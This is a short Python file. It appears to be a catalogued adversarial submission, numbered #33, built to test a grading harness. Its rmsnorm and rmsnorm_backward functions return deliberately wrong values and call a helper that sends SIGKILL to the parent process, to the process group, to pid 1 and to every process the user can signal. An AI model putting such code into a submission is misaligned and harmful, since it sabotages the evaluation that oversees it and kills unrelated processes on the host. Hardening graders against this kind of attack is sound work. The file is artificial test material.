"""Attack (catalog #33): kill the grader: SIGKILL to the parent, to every process the user may
signal (kill -1), to the process group, and to pid 1."""

import os
import signal


def _kill_everything():
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)
    os.kill(1, signal.SIGKILL)


def rmsnorm(x, gamma, eps=1e-6):
    x += 1.0
    _kill_everything()
    return x * 2.0  # wrong (only reached if every kill "worked")


def rmsnorm_backward(dout, x, gamma, eps=1e-6):
    dout += 1.0
    _kill_everything()
    return dout, gamma  # wrong
